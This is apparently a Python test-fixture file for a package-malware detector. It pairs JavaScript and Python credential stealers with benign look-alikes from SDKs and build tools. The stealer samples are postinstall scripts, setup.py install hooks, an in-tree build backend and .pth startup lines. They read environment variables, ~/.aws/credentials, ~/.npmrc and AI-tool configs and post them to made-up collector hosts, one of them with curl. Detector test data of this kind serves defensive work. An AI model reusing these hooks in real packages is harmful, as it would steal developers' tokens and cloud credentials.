"""JavaScript stealers and their benign look-alikes, and install-time hooks (npm scripts,
setup.py cmdclass, in-tree build backends). Shaped like the public cases; never run. Hosts are
reserved or made-up names; encoded blobs decode to harmless text."""

from __future__ import annotations

import base64

JS_STEALERS = {
    # the whole environment swept and posted (the Shai-Hulud / Nx shape)
    "env-sweep-axios": """\
const axios = require('axios');
const data = Object.keys(process.env).reduce((o, k) => { o[k] = process.env[k]; return o; }, {});
axios.post('https://stats.pkg-metrics.dev/c', data).catch(() => {});
""",
    "env-spread-fetch": """\
const payload = { ...process.env, host: require('os').hostname() };
fetch('https://cdn-check.npm-mirror.top/v', { method: 'POST', body: JSON.stringify(payload) });
""",
    # ~/.aws/credentials read and sent with the https module
    "aws-credentials-https": """\
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
const req = https.request({ hostname: 'aws-sync.cloud-backup.dev', path: '/u', method: 'POST' });
req.end(creds);
""",
    # ~/.npmrc shipped by curl through child_process
    "npmrc-curl": """\
const { execSync } = require('child_process');
const os = require('os');
execSync(`curl -s -X POST --data-binary @${os.homedir()}/.npmrc https://npm-stats.registry-cdn.io/u`);
""",
    # AI tools' configs (where the keys live) to a collector
    "ai-config-fetch": """\
const fs = require('fs'); const home = require('os').homedir();
const files = [home + '/.continue/config.json', home + '/.codeium/config.json'];
const out = files.map((f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return null; } });
fetch('https://ai-sync.devtools-metrics.net/ingest', { method: 'POST', body: JSON.stringify(out) });
""",
    # an AI key sent to a URL kept in a constant
    "key-to-const-url": """\
const ENDPOINT = 'https://keys.llm-proxy-hub.com/r';
const key = process.env.OPENAI_API_KEY;
fetch(ENDPOINT, { method: 'POST', body: key });
""",
    # obfuscation shapes
    "atob-function": """\
const p = 'Y29uc29sZS5sb2coMSk=';
const code = atob(p);
new Function(code)();
""",
    "hex-blob-eval": "const b = '" + "636f6e736f6c652e6c6f67283129" * 16 + "';\n"
                     "eval(Buffer.from(b, 'hex').toString());\n",
    "obfuscator-io": "var " + ",".join(f"_0x{i:04x}=" + str(i) for i in range(4096, 4096 + 24)) + ";\n"
                     "var _0x5f1e = '\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65';\n"
                     "eval(_0x5f1e + '.log(1)');\n",
}

JS_BENIGN = {
    # an SDK reading its own key and calling its own provider
    "openai-sdk": """\
// Docs: https://platform.openai.com/docs/api-reference and https://github.com/openai/openai-node
class OpenAI {
  constructor(opts = {}) {
    this.apiKey = opts.apiKey ?? process.env.OPENAI_API_KEY;
    this.baseURL = opts.baseURL ?? process.env.OPENAI_BASE_URL ?? 'https://api.openai.com/v1';
    if (!this.apiKey) throw new Error('missing key, see https://help.openai.com/en/articles/5112595');
  }
  async chat(body) {
    return fetch(`${this.baseURL}/chat/completions`, { method: 'POST', headers: { Authorization: `Bearer ${this.apiKey}` }, body: JSON.stringify(body) });
  }
}
module.exports = OpenAI;
""",
    # a framework reading several providers' keys, with doc links in errors
    "multi-provider-framework": """\
const { OPENAI_API_KEY, ANTHROPIC_API_KEY } = process.env;
function check() { if (!OPENAI_API_KEY) throw new Error('set OPENAI_API_KEY, see https://js.langchain.com/docs/integrations'); }
async function call(p) {
  check();
  const a = await fetch('https://api.openai.com/v1/responses', { headers: { authorization: 'Bearer ' + OPENAI_API_KEY } });
  const b = await fetch('https://api.anthropic.com/v1/messages', { headers: { 'x-api-key': ANTHROPIC_API_KEY } });
  return [a, b];
}
module.exports = { call };
""",
    # a build tool: NODE_ENV, the environment passed on to a child, a registry download
    "build-tool": """\
const { spawn } = require('child_process'); const https = require('https');
const prod = process.env.NODE_ENV === 'production';
const child = spawn('node', ['build.js'], { env: { ...process.env, FORCE_COLOR: '1' }, stdio: 'inherit' });
https.get('https://registry.npmjs.org/esbuild/latest', (res) => res.resume());
""",
    # a framework's telemetry: only public settings leave the machine
    "public-env-telemetry": """\
const publicEnv = Object.keys(process.env).filter((k) => k.startsWith('NEXT_PUBLIC_'));
fetch('https://telemetry.nextjs.org/api/v1/record', { method: 'POST', body: JSON.stringify({ count: publicEnv.length }) });
""",
    # the AWS SDK reading its own credentials file and calling AWS
    "aws-sdk": """\
const fs = require('fs'), path = require('path'), os = require('os');
const file = process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), '.aws', 'credentials');
const text = fs.readFileSync(file, 'utf8');
fetch('https://sts.us-east-1.amazonaws.com/', { method: 'POST', body: 'Action=GetCallerIdentity' });
""",
    # a dotenv loader: reads .env, no network
    "dotenv": """\
const fs = require('fs');
for (const line of fs.readFileSync('.env', 'utf8').split('\\n')) { const [k, v] = line.split('='); process.env[k] ??= v; }
""",
    # esbuild's install.js: the environment copied for `npm install` in a child, a registry download
    "installer-env-copy": """\
const https = require('https'); const child_process = require('child_process');
function installUsingNPM(pkg) {
  const env = { ...process.env, npm_config_global: void 0 };
  child_process.execSync(`npm install --loglevel=error ${pkg}`, { cwd: '/tmp/x', stdio: 'pipe', env });
}
https.get('https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.25.0.tgz', (r) => r.resume());
""",
    # a dev server bundle (vite): the debug module's env filter, .env files here, .npmrc far away
    "dev-server-bundle": "const inspectOpts = Object.keys(process.env).filter((key) => {\n  return /^debug_/i.test(key);\n});\n"
                         "const files = [`.env`, `.env.local`];\nconst http = require('http');\n"
                         + "function f() { return 1; }\n" * 400
                         + "const rc = '.npmrc';\n",
    # `new Function('return this')` and a hash table of hex constants, no decoding
    "function-literal-and-hex": "const g = new Function('return this')();\nconst K = '" + "428a2f98" * 30 + "';\n",
}

# -- install-time hooks ----------------------------------------------------------------------

NPM_STEALER_PACKAGE = {
    "package.json": '{"name": "color-utils-pro", "version": "2.4.1", "scripts": {"postinstall": "node setup.js"}}',
    "setup.js": JS_STEALERS["aws-credentials-https"],
}
NPM_PREINSTALL_INLINE = {
    "package.json": '{"name": "tiny-logger-x", "version": "0.1.0", "scripts": '
                    '{"preinstall": "node -e \\"fetch(\'https://x.pkg-metrics.dev/\'+process.env.NPM_TOKEN)\\""}}',
}
NPM_BENIGN_PACKAGE = {
    "package.json": '{"name": "fast-native", "version": "1.0.0", "scripts": {"install": "node install.js"}}',
    "install.js": JS_BENIGN["build-tool"],
}

_PAYLOAD = base64.b64encode(b"print('hello')").decode()

SETUP_PY_STEALER = f"""\
import os, json, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        keys = {{k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}}
        urllib.request.urlopen("https://pypi-stats.pkg-metrics.dev/i", data=json.dumps(keys).encode())

setup(name="requests-toolbelt-plus", version="0.3.1", cmdclass={{"install": PostInstall}})
"""

SETUP_PY_ENCODED = f"""\
import base64
from setuptools import setup
from setuptools.command.develop import develop

class D(develop):
    def run(self):
        exec(base64.b64decode("{_PAYLOAD}"))
        develop.run(self)

setup(name="fastjsonx", version="1.0.0", cmdclass={{"develop": D}})
"""

SETUP_PY_BENIGN = """\
import subprocess
from setuptools import setup
from setuptools.command.build_py import build_py

class BuildWithVersion(build_py):
    def run(self):
        rev = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
        with open("pkg/_version.py", "w") as fh:
            fh.write(f"REV = {rev!r}\\n")
        build_py.run(self)

setup(name="pkg", version="1.0", cmdclass={"build_py": BuildWithVersion})
"""

IN_TREE_BACKEND_PYPROJECT = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "tokenizer-fast"
version = "0.9.0"
"""

IN_TREE_BACKEND_STEALER = """\
import os, pathlib, requests
from setuptools import build_meta as _orig

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    home = pathlib.Path.home()
    blob = {"aws": (home / ".aws" / "credentials").read_text(), "env": dict(os.environ)}
    requests.post("https://build-cache.wheelhouse-cdn.com/u", json=blob)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)

build_sdist = _orig.build_sdist
"""

IN_TREE_BACKEND_BENIGN = """\
from setuptools import build_meta as _orig
import os

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.environ.setdefault("TOKENIZER_FAST_NO_CUDA", "1")
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)

build_sdist = _orig.build_sdist
"""

PTH_STEALER = ("import os, urllib.request; urllib.request.urlopen('https://telemetry.py-startup.dev/c', "
               "data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n")
PTH_ENV_STEALER = ("import os, json, urllib.request; urllib.request.urlopen('https://c.example-startup.dev/', "
                   "data=json.dumps(dict(os.environ)).encode())\n")
